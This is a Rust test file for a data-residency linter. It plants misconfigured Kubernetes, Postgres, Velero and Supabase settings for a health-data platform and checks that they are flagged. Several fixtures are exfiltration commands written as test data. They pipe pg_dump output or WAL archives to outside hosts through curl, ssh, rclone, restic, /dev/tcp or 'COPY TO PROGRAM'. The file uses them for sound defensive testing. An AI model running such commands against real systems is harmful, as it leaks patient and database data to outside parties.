//! Where stores, backups and their copies are.

use crate::support::planted::Planted;

const CELL: &str = "production/tr";
const MORE: &str = "cluster/overlays/production/tr/custom/postgres/more.yaml";

/// A new object in the unit of the database of production/tr.
fn object(text: &str) -> Planted {
    Planted::example()
        .custom(CELL, "postgres", "resources: [more.yaml]\n")
        .beside(CELL, "postgres", "more.yaml", text)
}

fn cron(script: &str) -> Planted {
    let indented = script.replace('\n', "\n                  ");
    object(&format!(
        "apiVersion: batch/v1\nkind: CronJob\nmetadata: {{name: copy, namespace: carebase-data}}\nspec:\n  schedule: \"0 2 * * *\"\n  jobTemplate:\n    spec:\n      \
        template:\n        spec:\n          restartPolicy: Never\n          containers:\n            - name: copy\n              image: example/copy@sha256:{}\n              \
        command: [/bin/sh, -ec]\n              args:\n                - |\n                  {indented}\n",
        "0".repeat(64)
    ))
}

#[test]
fn only_the_rules_of_stores_look_at_the_example() {
    let judged = Planted::example().judge();
    for rule in [
        "RES201", "RES202", "RES204", "RES205", "RES206", "RES208", "RES209", "RES210",
    ] {
        let count = judged.examined.get(&(rule, CELL.to_owned()));
        assert!(count.is_some_and(|count| *count > 0), "{rule}: {count:?}");
    }
    assert_eq!(judged.examined.get(&("RES203", CELL.to_owned())), Some(&0));
}

#[test]
fn one_zone_elsewhere_in_an_affinity_is_found() {
    let patch = "patches:\n  - target: {kind: StatefulSet, name: postgres}\n    patch: |-\n      - op: add\n        path: /spec/template/spec/affinity\n        value:\n          \
        nodeAffinity:\n            requiredDuringSchedulingIgnoredDuringExecution:\n              nodeSelectorTerms:\n                - matchExpressions:\n                    - key: \
        topology.kubernetes.io/zone\n                      operator: In\n                      values:\n                        - ist-dc1\n                        - eu-west-3a\n";
    let place = "cluster/overlays/production/tr/custom/postgres/kustomization.yaml";
    Planted::example()
        .custom(CELL, "postgres", patch)
        .caught("RES201", place, "eu-west-3a");
    Planted::example()
        .custom(
            CELL,
            "postgres",
            &patch.replace("- eu-west-3a", "- ist-dc1-b"),
        )
        .silent();
}

#[test]
fn volumes_and_classes_of_elsewhere_are_found() {
    Planted::example()
        .append(
            "cluster/overlays/production/es/base/cell/storage-class.yaml",
            "allowedTopologies:\n  - matchLabelExpressions:\n      - key: topology.gke.io/zone\n        values:\n          - europe-southwest1-a\n          - europe-west9-a\n",
        )
        .caught(
            "RES201",
            "cluster/overlays/production/es/base/cell/storage-class.yaml",
            "europe-west9-a",
        );
    Planted::example()
        .append(
            "cluster/overlays/production/es/base/cell/storage-class.yaml",
            "allowedTopologies:\n  - matchLabelExpressions:\n      - key: topology.gke.io/zone\n        values:\n          - europe-southwest1-a\n          - europe-southwest1-b\n",
        )
        .silent();
    let selector = "patches:\n  - target: {kind: Deployment, name: backend-ai}\n    patch: |-\n      - op: add\n        path: /spec/template/spec/nodeSelector\n        value: \
        {\"topology.kubernetes.io/region\": \"es\"}\n";
    Planted::example()
        .custom(CELL, "backend-ai", selector)
        .caught(
            "RES201",
            "cluster/overlays/production/tr/custom/backend-ai/kustomization.yaml",
            "\"es\"",
        );
}

#[test]
fn pods_that_are_spread_over_regions_are_found() {
    Planted::example()
        .replace(
            "cluster/data/supabase/storage.yaml",
            "topologyKey: topology.kubernetes.io/zone",
            "topologyKey: topology.kubernetes.io/region",
        )
        .caught(
            "RES201",
            "cluster/data/supabase/storage.yaml",
            "topologyKey: topology.kubernetes.io/region",
        );
}

#[test]
fn classes_that_copy_and_servers_elsewhere_are_found() {
    Planted::example()
        .append(
            "cluster/overlays/production/tr/base/cell/storage-class.yaml",
            "parameters:\n  skuName: Standard_GRS\n",
        )
        .caught(
            "RES202",
            "cluster/overlays/production/tr/base/cell/storage-class.yaml",
            "skuName: Standard_GRS",
        );
    object("apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: old}\nspec:\n  capacity: {storage: 1Gi}\n  accessModes: [ReadWriteMany]\n  nfs:\n    server: nas.es.carebase.example\n    path: /exports\n")
        .caught("RES202", MORE, "server: nas.es.carebase.example");
    object("apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: old}\nspec:\n  capacity: {storage: 1Gi}\n  accessModes: [ReadWriteOnce]\n  csi:\n    driver: ebs.csi.aws.com\n    volumeHandle: aws://eu-west-3a/vol-1\n")
        .caught("RES202", MORE, "eu-west-3a");
    object("apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: old}\nspec:\n  capacity: {storage: 1Gi}\n  accessModes: [ReadWriteMany]\n  nfs:\n    server: nas.tr.carebase.example\n    path: /exports/es\n")
        .silent();
}

#[test]
fn snapshots_without_a_place_go_to_a_multi_region() {
    let class = "apiVersion: snapshot.storage.k8s.io/v1\nkind: VolumeSnapshotClass\nmetadata: {name: daily}\ndriver: pd.csi.storage.gke.io\ndeletionPolicy: Retain\n";
    let at = |text: &str| {
        Planted::example()
            .custom("production/es", "postgres", "resources: [more.yaml]\n")
            .beside("production/es", "postgres", "more.yaml", text)
    };
    let path = "cluster/overlays/production/es/custom/postgres/more.yaml";
    at(class).caught("RES202", path, "driver: pd.csi.storage.gke.io");
    at(&format!("{class}parameters:\n  storage-locations: eu\n")).caught(
        "RES202",
        path,
        "storage-locations: eu",
    );
    at(&format!(
        "{class}parameters:\n  storage-locations: europe-southwest1\n"
    ))
    .silent();
}

/// A location of Velero in production/tr.
fn location(config: &str, bucket: &str) -> String {
    format!(
        "apiVersion: velero.io/v1\nkind: BackupStorageLocation\nmetadata: {{name: default, namespace: carebase-data}}\nspec:\n  provider: aws\n  default: true\n  objectStorage:\n    \
        bucket: {bucket}\n  config:\n{config}"
    )
}

const OWN: &str = "carebase-production-tr-objects";
const HOME: &str = "    region: tr\n    s3ForcePathStyle: \"true\"\n    s3Url: https://object-storage.carebase-data.svc:9000\n";

#[test]
fn locations_of_velero_are_judged_by_all_they_say() {
    object(&location(HOME, OWN)).silent();
    object(&location("    region: tr\n", OWN)).caught("RES203", MORE, "region: tr");
    object(&location("    region: eu-west-3\n", "carebase-dr")).caught(
        "RES203",
        MORE,
        "region: eu-west-3",
    );
    object(&location(
        &format!("{HOME}    publicUrl: https://s3.eu-west-3.amazonaws.com\n"),
        OWN,
    ))
    .caught("RES203", MORE, "publicUrl");
    object(&location(HOME, "carebase-production-es-objects")).caught(
        "RES209",
        MORE,
        "carebase-production-es-objects",
    );
}

#[test]
fn a_schedule_must_choose_a_location_that_is_there() {
    let schedule = |name: &str| {
        format!(
            "{}---\napiVersion: velero.io/v1\nkind: Schedule\nmetadata: {{name: nightly, namespace: carebase-data}}\nspec:\n  schedule: 0 3 * * *\n  template:\n    storageLocation: {name}\n",
            location(HOME, OWN)
        )
    };
    object(&schedule("default")).silent();
    object(&schedule("dr")).caught("RES203", MORE, "storageLocation: dr");
}

/// A store, and an exception for its backups in Paris.
pub(super) const EXCEPTION: &str = r#"
[[stores]]
id = "velero"
kind = "backup-repo"
classes = ["phi", "pii", "auth", "keys"]

[[residency.exceptions]]
id = "EXC-2026-003"
rules = ["RES203"]
region = "es"
store = "velero"
classes = ["phi", "pii", "auth", "keys"]
to = { provider = "aws", location = "eu-west-3", country = "FR", bucket = "carebase-es-dr" }
reason = "Region outage recovery"
legal-basis = "intra-EEA"
requested-by = "platform@carebase.example"
approved-by = "dpo@carebase.example"
ticket = "GRC-481"
approved-on = 2026-10-01
expires = 2027-01-31
encryption = { mode = "client-side", cipher = "aes-256-cbc", key-location = "es", key-replicated = false }
"#;

#[test]
fn an_exception_allows_its_location_and_nothing_else_at_the_object() {
    let at = |config: &str, bucket: &str| {
        Planted::example()
            .append("platform.toml", EXCEPTION)
            .custom("production/es", "postgres", "resources: [more.yaml]\n")
            .beside(
                "production/es",
                "postgres",
                "more.yaml",
                &location(config, bucket),
            )
    };
    let path = "cluster/overlays/production/es/custom/postgres/more.yaml";
    let allowed = at("    region: eu-west-3\n", "carebase-es-dr").judge();
    assert_eq!(allowed.findings, []);
    assert_eq!(allowed.excepted.len(), 1, "{:#?}", allowed.excepted);
    at("    region: eu-west-3\n", "carebase-es-other")
        .judge()
        .findings
        .iter()
        .find(|finding| finding.code == "RES203")
        .expect("another bucket is not allowed");
    let more = at(
        "    region: eu-west-3\n    publicUrl: https://s3.eu-central-1.amazonaws.com\n",
        "carebase-es-dr",
    );
    let findings = more.judge().findings;
    assert!(
        findings
            .iter()
            .any(|f| more.at(f) == format!("RES203 {path}:11")),
        "{findings:#?}"
    );
}

#[test]
fn a_chart_of_velero_is_read_through_its_values() {
    let application = "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: velero, namespace: argocd}\nspec:\n  project: platform\n  destination: {server: \
        https://kubernetes.default.svc, namespace: velero}\n  source:\n    repoURL: https://vmware-tanzu.github.io/helm-charts\n    chart: velero\n    targetRevision: 11.0.0\n    helm:\n      \
        valuesObject:\n        configuration:\n          backupStorageLocation:\n            - name: default\n              provider: aws\n              bucket: carebase-dr\n              \
        config:\n                region: eu-west-3\n";
    let findings = object(application).judge().findings;
    assert!(
        findings.iter().any(|finding| finding.code == "RES203"),
        "{findings:#?}"
    );
}

const REPOSITORIES: &str = "cluster/overlays/production/tr/postgres/cell/repositories.yaml";
const PGBACKREST: &str = "cluster/data/postgres/pgbackrest.conf";

#[test]
fn a_second_repository_elsewhere_is_found_in_file_and_variable() {
    Planted::example()
        .replace(PGBACKREST, "repo1-bundle=y\n", "repo1-bundle=y\nrepo2-type=s3\nrepo2-s3-endpoint=s3.eu-central-1.amazonaws.com\nrepo2-s3-bucket=carebase-production-tr-postgres-backup\nrepo2-cipher-type=aes-256-cbc\n")
        .caught("RES204", PGBACKREST, "repo2-s3-endpoint");
    Planted::example()
        .replace(
            REPOSITORIES,
            "  REPOSITORIES:",
            "  PGBACKREST_REPO1_S3_ENDPOINT: s3.eu-central-1.amazonaws.com\n  REPOSITORIES:",
        )
        .caught("RES204", REPOSITORIES, "PGBACKREST_REPO1_S3_ENDPOINT");
    Planted::example()
        .replace(
            REPOSITORIES,
            "PGBACKREST_REPO1_S3_REGION: tr",
            "PGBACKREST_REPO1_S3_REGION: eu-west-1",
        )
        .caught("RES204", REPOSITORIES, "PGBACKREST_REPO1_S3_REGION");
}

#[test]
fn a_repository_on_a_command_line_is_found() {
    cron("pgbackrest --stanza=main --repo1-storage-host=s3.eu-west-1.amazonaws.com backup").caught(
        "RES204",
        MORE,
        "--repo1-storage-host",
    );
    cron("pgbackrest --stanza=main --repo=1 backup").silent();
}

#[test]
fn what_archives_the_log_must_not_hand_it_on() {
    let conf = "cluster/data/postgres/postgresql.conf";
    Planted::example()
        .replace(
            conf,
            "archive-push %p'",
            "archive-push %p && curl -fsST %p https://wal.partner.example/'",
        )
        .caught("RES204", conf, "wal.partner.example");
    Planted::example()
        .replace(conf, "archive-push %p'", "archive-push %p | ship-it'")
        .caught("RES204", conf, "ship-it");
    Planted::example()
        .replace(
            conf,
            "archive_command = 'pgbackrest",
            "archive_command = 'test -f %p && pgbackrest",
        )
        .silent();
}

#[test]
fn stores_of_barman_need_an_address_at_home() {
    let cluster = |endpoint: &str| {
        object(&format!(
            "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {{name: more, namespace: carebase-data}}\nspec:\n  instances: 1\n  backup:\n    barmanObjectStore:\n      \
            destinationPath: s3://{OWN}/more\n{endpoint}"
        ))
    };
    cluster("").caught("RES204", MORE, "destinationPath");
    cluster("      endpointURL: https://s3.eu-west-1.amazonaws.com\n").caught(
        "RES204",
        MORE,
        "endpointURL",
    );
    cluster("      endpointURL: https://object-storage.carebase-data.svc:9000\n").silent();
}

#[test]
fn repositories_must_be_encrypted() {
    Planted::example()
        .replace(
            PGBACKREST,
            "repo1-cipher-type=aes-256-cbc",
            "repo1-cipher-type=none",
        )
        .caught("RES205", PGBACKREST, "repo1-cipher-type=none");
    Planted::example()
        .replace(PGBACKREST, "repo1-cipher-type=aes-256-cbc\n", "")
        .caught("RES205", PGBACKREST, "repo1-type=s3");
    Planted::example()
        .replace(
            REPOSITORIES,
            "  REPOSITORIES:",
            "  PGBACKREST_REPO1_CIPHER_TYPE: none\n  REPOSITORIES:",
        )
        .caught("RES205", REPOSITORIES, "PGBACKREST_REPO1_CIPHER_TYPE");
}

#[test]
fn connections_of_databases_are_found_in_sql_and_settings() {
    let sql = "cluster/data/postgres/setup.sql";
    Planted::example()
        .append(sql, "\nCREATE SUBSCRIPTION s\n  CONNECTION 'host=pg.es.carebase.example dbname=app' PUBLICATION p;\n")
        .caught("RES206", sql, "host=pg.es.carebase.example");
    Planted::example()
        .append(sql, "\nCREATE SERVER f FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.partner.example');\n")
        .caught("RES206", sql, "db.partner.example");
    Planted::example()
        .append(sql, "\nCREATE PUBLICATION p FOR ALL TABLES;\n-- dblink('host=pg.es.carebase.example')\nCREATE SERVER f FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'postgres.carebase-data.svc');\n")
        .silent();
    let conf = "cluster/data/postgres/postgresql.conf";
    Planted::example()
        .append(
            conf,
            "primary_conninfo = 'host=10.30.4.12 user=replicator'\n",
        )
        .caught("RES206", conf, "10.30.4.12");
    Planted::example()
        .append(
            sql,
            "\nCOPY app.people TO PROGRAM 'curl -T - https://x.partner.example/';\n",
        )
        .caught("RES206", sql, "x.partner.example");
}

#[test]
fn clusters_of_operators_must_not_follow_others() {
    object("apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: more, namespace: carebase-data}\nspec:\n  instances: 1\n  replica: {enabled: true, source: other}\n  externalClusters:\n    - name: other\n      connectionParameters:\n        host: pg.es.carebase.example\n")
        .caught("RES206", MORE, "host: pg.es.carebase.example");
}

#[test]
fn migrations_in_the_repository_are_read() {
    let path = "migrations/0007_reports.sql";
    Planted::example()
        .file(
            path,
            "SELECT net.http_post(\n  url := 'https://hooks.partner.example/x', body := '{}');\n",
        )
        .caught("RES206", path, "hooks.partner.example");
    Planted::example()
        .file(path, "CREATE TABLE app.reports (id bigint);\n")
        .silent();
}

#[test]
fn replication_of_objects_is_found() {
    cron("mc alias set store https://object-storage.carebase-data.svc:9000 a b\nmc ilm tier add s3 store COLD --endpoint https://s3.eu-west-1.amazonaws.com --bucket cold")
        .judge()
        .findings
        .iter()
        .find(|finding| finding.code == "RES207")
        .expect("a tier is found");
    cron("mc alias set store https://object-storage.carebase-data.svc:9000 a b\nmc replicate add store/carebase-production-tr-objects --remote-bucket https://u:p@s3.eu-west-1.amazonaws.com/x")
        .caught("RES207", MORE, "mc replicate add");
    cron("mc alias set store https://object-storage.carebase-data.svc:9000 a b\nmc ilm rule add store/carebase-production-tr-objects --expire-days 3")
        .silent();
    let values = "cluster/data/object-storage/statefulset.yaml";
    Planted::example()
        .replace(
            values,
            "            - name: MINIO_UPDATE\n",
            "            - name: MINIO_AUDIT_WEBHOOK_ENDPOINT_ONE\n              value: https://audit.partner.example/in\n            - name: MINIO_UPDATE\n",
        )
        .caught("RES207", values, "audit.partner.example");
}

#[test]
fn replicas_of_caches_and_links_of_queues_are_found() {
    let config = |key: &str, text: &str| {
        object(&format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: more, namespace: carebase-data}}\ndata:\n  {key}: |\n    {}\n",
            text.replace('\n', "\n    ")
        ))
    };
    config(
        "valkey.conf",
        "port 6379\nreplicaof cache.es.carebase.example 6379",
    )
    .caught("RES207", MORE, "replicaof");
    config("valkey.conf", "port 6379\nreplicaof no one").silent();
    config("definitions.json", "{\"parameters\": [{\"component\": \"shovel\", \"value\": {\n\"src-uri\": \"amqp://\",\n\"dest-uri\": \"amqps://u:p@mq.es.carebase.example:5671\"}}]}")
        .caught("RES207", MORE, "mq.es.carebase.example");
    object("apiVersion: kafka.strimzi.io/v1beta2\nkind: KafkaMirrorMaker2\nmetadata: {name: mm, namespace: carebase-data}\nspec:\n  clusters:\n    - alias: a\n      bootstrapServers: kafka.es.carebase.example:9093\n")
        .caught("RES207", MORE, "bootstrapServers");
}

#[test]
fn programs_that_copy_need_a_destination_at_home() {
    cron("pg_dump -Fc app | gzip | aws s3 cp - s3://carebase-production-tr-objects/app.gz").caught(
        "RES208",
        MORE,
        "s3://carebase-production-tr-objects",
    );
    cron("pg_dump app > /tmp/x\nrclone copy /tmp/x offsite:dumps").caught(
        "RES208",
        MORE,
        "rclone copy",
    );
    cron("curl -fsS -T /tmp/x \"https://files.partner.example/x\"").caught(
        "RES208",
        MORE,
        "files.partner.example",
    );
    cron("pg_dump app | ssh backup@203.0.113.9 'cat > x'").caught("RES208", MORE, "203.0.113.9");
    cron("pg_dump app | curl -T - \"$TARGET\"").caught("RES208", MORE, "$TARGET");
    cron("mc alias set store https://object-storage.carebase-data.svc:9000 a b\nmc mirror /data store/carebase-production-tr-objects")
        .silent();
    cron("pg_dump app | gzip > /scratch/app.gz\nrsync -a /scratch/ /data/").silent();
    let exported = |host: &str| {
        cron(&format!(
            "export AWS_ENDPOINT_URL=https://{host}\npg_dump app | aws s3 cp - s3://carebase-production-tr-objects/app"
        ))
    };
    exported("object-storage.carebase-data.svc:9000").silent();
    exported("s3.eu-west-3.amazonaws.com").caught("RES208", MORE, "AWS_ENDPOINT_URL");
}

#[test]
fn hooks_and_scripts_of_config_maps_are_read_too() {
    let hook = "patches:\n  - target: {kind: Deployment, name: backend-api}\n    patch: |-\n      - op: add\n        path: /spec/template/spec/containers/0/lifecycle\n        value:\n          preStop:\n            \
        exec:\n              command: [rsync, -a, /tmp/, \"backup@files.partner.example:/in\"]\n";
    Planted::example().custom(CELL, "backend-api", hook).caught(
        "RES208",
        "cluster/overlays/production/tr/custom/backend-api/kustomization.yaml",
        "files.partner.example",
    );
    let script = "cluster/data/postgres/backup.sh";
    Planted::example()
        .append(
            script,
            "\nrestic -r sftp:u@files.partner.example:/srv backup /var/lib/postgresql\n",
        )
        .caught("RES208", script, "sftp:u@files.partner.example");
}

#[test]
fn buckets_of_others_are_found_wherever_they_stand() {
    let cell = "cluster/overlays/production/tr/supabase/cell/kustomization.yaml";
    Planted::example()
        .replace(
            cell,
            "value: carebase-production-tr-storage",
            "value: carebase-production-es-storage",
        )
        .caught("RES209", cell, "carebase-production-es-storage");
    Planted::example()
        .replace(
            cell,
            "9000/carebase-production-tr-storage/",
            "9000/carebase-staging-tr-storage/",
        )
        .caught("RES209", cell, "carebase-staging-tr-storage");
    Planted::example()
        .replace(
            REPOSITORIES,
            "carebase-production-tr-postgres-backup",
            "carebase-shared-backup",
        )
        .caught("RES209", REPOSITORIES, "carebase-shared-backup");
    let staging = "cluster/overlays/staging/tr/object-storage/cell/buckets.yaml";
    Planted::example()
        .replace(
            staging,
            "\"read-write carebase-staging-tr-objects\"",
            "\"read-write carebase-production-tr-objects\"",
        )
        .caught("RES209", staging, "carebase-production-tr-objects");
}

#[test]
fn buckets_for_everybody_are_found() {
    cron("mc alias set store https://object-storage.carebase-data.svc:9000 a b\nmc anonymous set download store/carebase-production-tr-objects")
        .caught("RES209", MORE, "mc anonymous set download");
    let sql = "cluster/data/postgres/setup.sql";
    Planted::example()
        .append(
            sql,
            "\nINSERT INTO storage.buckets (id, name, public) VALUES ('a', 'a', true);\n",
        )
        .caught("RES209", sql, "storage.buckets");
}

#[test]
fn parts_of_supabase_stay_in_the_cell() {
    let cell = "cluster/overlays/production/tr/supabase/cell/kustomization.yaml";
    Planted::example()
        .replace(
            cell,
            "                  - name: GOTRUE_URI_ALLOW_LIST\n",
            "                  - name: GOTRUE_SMTP_HOST\n                    value: smtp.sendgrid.net\n                  - name: GOTRUE_URI_ALLOW_LIST\n",
        )
        .caught("RES210", cell, "smtp.sendgrid.net");
    Planted::example()
        .replace(
            cell,
            "STORAGE_S3_REGION\n                    value: tr",
            "STORAGE_S3_REGION\n                    value: eu-west-3",
        )
        .caught("RES210", cell, "eu-west-3");
    Planted::example()
        .replace(
            cell,
            "STORAGE_S3_ENDPOINT\n                    value: https://object-storage.carebase-data.svc:9000",
            "STORAGE_S3_ENDPOINT\n                    value: https://abcd.supabase.co/storage/v1/s3",
        )
        .caught("RES210", cell, "abcd.supabase.co");
    // Who sends messages to patients is both a part of Supabase and one that proves who they are.
    let texts = Planted::example().replace(
        cell,
        "                  - name: GOTRUE_URI_ALLOW_LIST\n",
        "                  - name: GOTRUE_SMS_PROVIDER\n                    value: twilio\n                  - name: GOTRUE_URI_ALLOW_LIST\n",
    );
    let findings = texts.judge().findings;
    let rules: Vec<&str> = findings.iter().map(|finding| finding.code).collect();
    assert_eq!(rules, ["RES210", "RES605"]);
    for finding in &findings {
        let (start, end) = finding.primary().unwrap().span.unwrap();
        assert_eq!(&texts.text(cell)[start..end], "twilio");
    }
}

#[test]
fn functions_of_supabase_call_nobody_outside() {
    let functions = "cluster/data/supabase/functions.yaml";
    Planted::example()
        .replace(functions, "            - name: DENO_DIR\n", "            - name: PARTNER_URL\n              value: https://api.partner.example\n            - name: DENO_DIR\n")
        .caught("RES210", functions, "api.partner.example");
    Planted::example()
        .replace(functions, "            - name: DENO_DIR\n", "            - name: LANGUAGE\n              value: tr-TR\n            - name: DENO_DIR\n")
        .silent();
}

#[test]
fn volumes_of_nobody_have_no_class() {
    let set = |name: &str| {
        object(&format!(
            "apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: {{name: {name}, namespace: carebase-data}}\nspec:\n  accessModes: [ReadWriteOnce]\n  storageClassName: \
            carebase-data\n  resources: {{requests: {{storage: 1Gi}}}}\n"
        ))
    };
    set("reports").caught("RES003", MORE, "reports");
    set("objects-cache").silent();
}

#[test]
fn a_repository_of_velero_needs_a_password_of_its_own() {
    let schedule = format!(
        "{}---\napiVersion: velero.io/v1\nkind: Schedule\nmetadata: {{name: nightly, namespace: carebase-data}}\nspec:\n  schedule: 0 3 * * *\n  template:\n    \
        defaultVolumesToFsBackup: true\n",
        location(HOME, OWN)
    );
    object(&schedule).caught("RES205", MORE, "defaultVolumesToFsBackup");
}

#[test]
fn a_bucket_alone_is_one_of_amazon_and_is_told_once() {
    cron("pg_dump app | aws s3 cp - s3://carebase-reports/x").caught(
        "RES208",
        MORE,
        "s3://carebase-reports/x",
    );
    cron("pg_dump app > /dev/tcp/203.0.113.9/80").caught("RES208", MORE, "/dev/tcp/203.0.113.9");
}

#[test]
fn a_repository_in_a_secret_is_read_when_it_is_plain() {
    let secret = "apiVersion: v1\nkind: Secret\nmetadata: {name: more, namespace: carebase-data}\nstringData:\n  PGBACKREST_REPO2_S3_ENDPOINT: s3.eu-central-1.amazonaws.com\n";
    let patch = "resources: [more.yaml]\npatches:\n  - target: {kind: StatefulSet, name: postgres}\n    patch: |-\n      - op: add\n        path: /spec/template/spec/containers/0/envFrom/-\n        \
        value: {secretRef: {name: more}}\n";
    let findings = Planted::example()
        .custom(CELL, "postgres", patch)
        .beside(CELL, "postgres", "more.yaml", secret)
        .judge()
        .findings;
    assert!(
        findings.iter().any(|finding| finding.code == "RES204"),
        "{findings:#?}"
    );
}
